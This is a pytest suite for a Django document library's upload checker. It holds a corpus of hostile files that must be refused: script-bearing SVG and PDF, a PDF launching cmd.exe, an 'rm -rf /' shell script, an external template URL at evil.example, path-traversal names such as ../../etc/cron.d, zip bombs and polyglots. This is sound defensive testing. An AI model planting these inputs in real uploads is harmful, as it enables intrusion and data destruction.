"""The upload corpus: what attackers and accidents upload is refused in words, or made harmless; what people write is taken."""

import io
import tracemalloc
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from council import pictures
from council.library import packages
from council.library.content import ENDINGS, PDF, RefusedFileError, check_file, harmless
from council.library.models import Document, DocumentVersion
from council.library.services import add_version
from tests.factories import NOW, DocumentFactory, coordinator
from tests.library import corpus
from tests.library.corpus import MZ, chunk, docx, exif, hwp, jpeg, link, package, pdf_with, png, segment

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
ENTITIES = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
TEMPLATE = (
    '<Relationships><Relationship Id="rId1" Type="http://schemas/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
SCRIPT = b"/S/JavaScript/JS(app.alert(1))"
OLE = corpus.compound("\1Ole10Native", body=b"MZ")
WORKBOOK = package({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"})

REFUSED = {
    "nothing": ("a.pdf", b"", "empty"),
    "a program named pdf": ("invoice.pdf", MZ, "not taken"),
    "a program": ("setup.exe", MZ, "not taken"),
    "a shell script named txt": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "not taken"),
    "SVG with a script": ("a.svg", SVG, "not taken"),
    "SVG with a script, named png": ("a.png", SVG, "not taken"),
    "SVG after a BOM and blanks": ("a.txt", b"\xef\xbb\xbf \n" + SVG, "not taken"),
    "a page named pdf": ("a.pdf", HTML, "not taken"),
    "GIF that is a script": ("a.gif", b"GIF89a=1;alert(1)//", "By its name"),
    "PDF and ZIP": ("a.pdf", corpus.PDF + package({"a.exe": MZ}), "another file"),
    "PDF with a script": ("a.pdf", pdf_with(b"/S/JavaScript/JS(app.alert(1))"), "script"),
    "PDF with a script, its letters as numbers": ("a.pdf", pdf_with(b"/S/J#61vaScript/JS(x)"), "script"),
    "PDF with a script in a packed object": ("a.pdf", pdf_with(b"/S/JavaScript/JS(x)", packed=True), "script"),
    "PDF with a script in a packed object, twice packed": (
        "a.pdf",
        pdf_with(
            SCRIPT,
            packed=True,
            head=b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
            pack=lambda part: zlib.compress(part).hex().encode() + b">",
        ),
        "script",
    ),
    "PDF with a script in a packed object that says so in numbers": (
        "a.pdf",
        pdf_with(SCRIPT, packed=True, head=b"/Type/Obj#53tm/Filter/Fl#61teDecode"),
        "script",
    ),
    "PDF with a script behind much else in a packed object": (
        "a.pdf",
        pdf_with(b" " * 5_000_000 + SCRIPT, packed=True),
        "script",
    ),
    "PDF that packs an object as nobody can unpack it": (
        "a.pdf",
        pdf_with(SCRIPT, packed=True, pack=lambda part: b"\1" + part.hex().encode()),
        "broken",
    ),
    "PDF with too much packed": ("a.pdf", pdf_with(b" " * 20_000_000, packed=True), "more than"),
    "PDF that is locked": ("a.pdf", corpus.PDF.replace(b"trailer<<>>", b"trailer<</#45ncrypt 5 0 R>>"), "password"),
    "PDF that starts a program": ("a.pdf", pdf_with(b"/S/Launch/F(cmd.exe)"), "script"),
    "PDF that was cut off": ("a.pdf", corpus.PDF[:-8], "broken"),
    "words before a PDF": ("a.pdf", b"hello\n" + corpus.PDF, "By its name"),
    "program in a document": ("a.docx", docx({"word/media/image1.png": MZ}), "program"),
    "program by its name": ("a.docx", docx({"word/run.EXE": "x"}), "program"),
    "script in a document": ("a.docx", docx({"word/a.js": "x"}), "program"),
    "package of another program": ("a.docx", docx({"word/embeddings/oleObject1.bin": OLE}), "program"),
    "ZIP in a document": ("a.docx", docx({"word/embeddings/a.bin": package({"a": "x"})}), "program"),
    "macros in a workbook in a document": (
        "a.docx",
        docx({"word/embeddings/a.xlsx": package({"[Content_Types].xml": "", "xl/vbaProject.bin": "x"})}),
        "macros",
    ),
    "one in another in another": (
        "a.docx",
        docx(
            {"a.xlsx": package({"[Content_Types].xml": "", "b.xlsx": package({"[Content_Types].xml": "", "c.xlsx": WORKBOOK})})}
        ),
        "program",
    ),
    "macros in OpenDocument": (
        "a.odt",
        package({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<m/>"}),
        "macros",
    ),
    "a template from elsewhere": ("a.docx", docx({"word/_rels/settings.xml.rels": TEMPLATE}), "template"),
    "a template from elsewhere, two bytes a letter": (
        "a.docx",
        docx({"word/_rels/settings.xml.rels": TEMPLATE.encode("utf-16")}),
        "template",
    ),
    "entities in a document": ("a.docx", docx({"word/settings.xml": ENTITIES}), "broken"),
    "out of its folder": ("a.docx", docx({"../../etc/cron.d/x": "x"}), "elsewhere"),
    "out of its folder, the other way": ("a.docx", docx({"..\\..\\x": "x"}), "elsewhere"),
    "an absolute name": ("a.docx", docx({"/etc/passwd": "x"}), "elsewhere"),
    "a drive": ("a.docx", docx({"C:/x": "x"}), "elsewhere"),
    "a name that hides itself": ("a.docx", docx({"word/\u202egpj.xml": "x"}), "elsewhere"),
    "a link": ("a.docx", package({"[Content_Types].xml": "", **link("word/document.xml", "/etc/passwd")}), "program"),
    "a bomb of one piece": ("a.docx", corpus.overlapping(), "another file"),
    "a locked package": ("a.docx", corpus.locked(), "password"),
    "words behind a package": ("a.docx", docx() + b"<script>", "another file"),
    "words before a package": ("a.docx", b"PK\x03\x04" + b"x" * 30 + docx(), "another file"),
    "a checksum that is wrong": ("a.docx", docx(stored=True).replace(b"<w/>", b"<x/>", 1), "broken"),
    "ZIP named docx": ("a.docx", package({"readme.txt": "x"}), "not taken"),
    "JAR named docx": ("a.docx", package({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "program"),
    "old Word named hwp": ("a.hwp", corpus.compound("WordDocument", "VBA"), "not taken"),
    "old Word that says HWP": ("a.hwp", hwp("WordDocument"), "not taken"),
    "HWP in words alone": ("a.hwp", corpus.compound("Other", body=b"HWP Document File"), "not taken"),
    "HWP that was cut off": ("a.hwp", hwp()[:600], "broken"),
    "HWP whose contents go round": ("a.hwp", hwp().replace(b"\xfe\xff\xff\xff", b"\x01\0\0\0"), "broken"),
    "a picture of 4 000 000 000 pixels": ("a.png", png(2**16, 2**16), "too many pixels"),
    "a picture of nothing": ("a.png", png(0, 0), "broken"),
    "a picture with a wrong checksum": ("a.png", png().replace(b"IDAT", b"IDAX"), "broken"),
    "a picture that was cut off": ("a.jpg", jpeg()[:-3], "broken"),
    "a picture that is a page": ("a.jpg", b"\xff\xd8\xff\xe0" + HTML, "broken"),
    "half a letter": ("a.txt", "가".encode()[:2], "not taken"),
    "control characters": ("a.csv", b"a,b\n\x1b]0;x\x07", "not taken"),
}
TAKEN = {
    "PDF": ("a.pdf", corpus.PDF),
    "PDF with packed objects": ("a.pdf", pdf_with(b"/Type/Page", packed=True)),
    "Hangul": ("보고서.hwp", hwp()),
    "Hangul of the new kind": (
        "보고서.hwpx",
        package({"mimetype": "application/hwp+zip", "Contents/section0.xml": "<s/>", "Scripts/headerScripts.js": "x"}),
    ),
    "a workbook in a presentation": (
        "a.pptx",
        package({"[Content_Types].xml": "<T/>", "ppt/presentation.xml": "<p/>", "ppt/embeddings/Sheet1.xlsx": WORKBOOK}),
    ),
    "a workbook with a list of thousands": (
        "a.xlsx",
        package({"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>", "xl/sheet1.xml": "<v>1</v>" * 100_000}),
    ),
    "a package with a short comment": ("a.docx", docx(comment=b"made by a program")),
    "a package with folders": ("a.docx", docx({"word/": ""})),
}


@pytest.mark.parametrize("case", REFUSED)
def test_the_corpus_is_refused_in_words(case):
    name, content, words = REFUSED[case]
    with pytest.raises(RefusedFileError, match=words):
        check_file(SimpleUploadedFile(name, content))


@pytest.mark.parametrize("case", TAKEN)
def test_what_people_write_is_taken(case):
    name, content = TAKEN[case]
    assert check_file(SimpleUploadedFile(name, content)).endings[0] == name.rpartition(".")[2]


def test_a_bomb_costs_nothing(monkeypatch):
    """What says how large it becomes is refused before it is read; what lies is broken."""
    bomb = docx({f"word/media/{number}.xml": b"\0" * 30_000_000 for number in range(8)})
    assert len(bomb) < 400_000
    tracemalloc.start()
    with pytest.raises(RefusedFileError, match=r"more than 200\.0"):
        check_file(SimpleUploadedFile("a.docx", bomb))
    assert tracemalloc.get_traced_memory()[1] < 20_000_000
    tracemalloc.stop()
    monkeypatch.setattr(packages, "LARGEST_INSIDE", 1000)
    with pytest.raises(RefusedFileError, match="more than"):
        check_file(SimpleUploadedFile("a.docx", docx({"a.rels": b" " * 600_000})))


def test_a_bomb_in_a_document_in_a_document_counts_for_the_whole(monkeypatch):
    monkeypatch.setattr(packages, "MOST_UNPACKED", 100_000)
    inner = package({"[Content_Types].xml": "", "xl/a.xml": b"\0" * 60_000})
    with pytest.raises(RefusedFileError, match="more than"):
        packages.Package(io.BytesIO(docx({"a.xlsx": inner, "b.xlsx": inner})), budget=100_000)


def test_a_package_of_too_many_members_is_refused(monkeypatch):
    monkeypatch.setattr(packages, "MOST_MEMBERS", 5)
    with pytest.raises(RefusedFileError, match="more than"):
        check_file(SimpleUploadedFile("a.docx", docx({f"a{number}": "" for number in range(9)})))


def test_a_picture_loses_the_place_and_whatever_hangs_behind_it():
    polyglot = jpeg(segment(0xE1, exif(6)), segment(0xFE, HTML), segment(0xE2, b"ICC_PROFILE\0\1\1x")) + package({"a.exe": MZ})
    upload = SimpleUploadedFile("a.jpg", polyglot)
    kept = harmless(upload, check_file(upload)).read()
    assert not any(part in kept for part in (b"HERE", b"script", b"PK\x03\x04", b"MZ"))
    assert b"ICC_PROFILE" in kept
    picture = pictures.cleaned(kept)
    assert (picture.content, picture.width, picture.height, picture.turned) == (kept, 4, 3, True)
    noted = png(2, 2, chunk(b"tEXt", b"Comment\0<script>"), chunk(b"eXIf", b"HERE")) + HTML
    kept = harmless(SimpleUploadedFile("a.png", noted), check_file(SimpleUploadedFile("a.png", noted))).read()
    assert kept == png()


@pytest.mark.parametrize("order", [">", "<"])
@pytest.mark.parametrize("orientation", range(1, 9))
def test_a_picture_stays_the_way_it_was_held(orientation, order):
    picture = pictures.cleaned(jpeg(segment(0xE1, exif(orientation, order))))
    assert picture.turned == (orientation > 4)
    assert (b"Exif" in picture.content) == (orientation != 1)
    assert pictures.cleaned(picture.content) == picture


@pytest.mark.parametrize("noted", [b"Exif\0\0", b"Exif\0\0II*\0\xff\xff\xff\xff", b"Exif\0\0XX", exif(9)])
def test_nonsense_about_how_it_was_held_is_no_matter(noted):
    assert not pictures.cleaned(jpeg(segment(0xE1, noted))).turned


@pytest.mark.parametrize("place", range(0, 100, 3))
def test_whatever_is_cut_off_is_refused_and_never_a_crash(place):
    for content in (png(), jpeg(), docx(), hwp()[:-500], corpus.PDF.rstrip()):
        cut = content[: len(content) * place // 100]
        try:
            check_file(SimpleUploadedFile("file", cut))
        except RefusedFileError:
            continue
        # A beginning so short that it is words.
        assert len(cut) < 30


@pytest.mark.django_db
def test_a_kept_picture_is_the_harmless_one():
    document = DocumentFactory(text=False)
    version = add_version(document=document, upload=SimpleUploadedFile("a.png", png() + HTML), by=None, now=NOW)
    with version.file.open() as stored:
        assert stored.read() == png()
    assert version.size == len(png())


@pytest.mark.django_db
@pytest.mark.parametrize("case", ["nothing", "a program named pdf", "SVG with a script", "a bomb of one piece", "PDF and ZIP"])
def test_staff_are_told_beside_the_field(client, case):
    client.force_login(coordinator("forums"))
    name, content, words = REFUSED[case]
    data = {"title_ko": "자료", "programme": "forums", "classification": "public", "is_published": "on", "novelty": "no"}
    for prefix in ("readers", "versions"):
        data |= {f"{prefix}-TOTAL_FORMS": "0", f"{prefix}-INITIAL_FORMS": "0"}
    response = client.post(reverse("admin:library_document_add"), data | {"file": SimpleUploadedFile(name, content)})
    assert words in response.context["adminform"].form.errors["file"][0]
    assert "자료" in response.content.decode()
    assert not Document.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", ["../../../etc/passwd.pdf", "..\\..\\boot.pdf", "/etc/passwd.pdf", "a\0b.pdf", "%2e%2e%2fx.pdf"]
)
def test_a_name_leads_nowhere(name):
    document = DocumentFactory(text=False)
    version = add_version(document=document, upload=_named(name), by=None, now=NOW)
    assert "/" not in version.name
    assert "\\" not in version.name
    assert "\0" not in version.name
    folder, half, stored = version.file.name.split("/")
    assert (folder, half, len(stored), stored.isalnum()) == ("library", stored[:2], 32, True)
    assert DocumentVersion.objects.get() == version


def _named(name):
    upload = SimpleUploadedFile("a.pdf", corpus.PDF)
    upload._name = name  # as a client may send it, past Django's own cleaning
    return upload


def test_the_field_says_what_is_taken():
    assert "hwp, hwpx" in ENDINGS
    assert PDF.endings[0] in ENDINGS
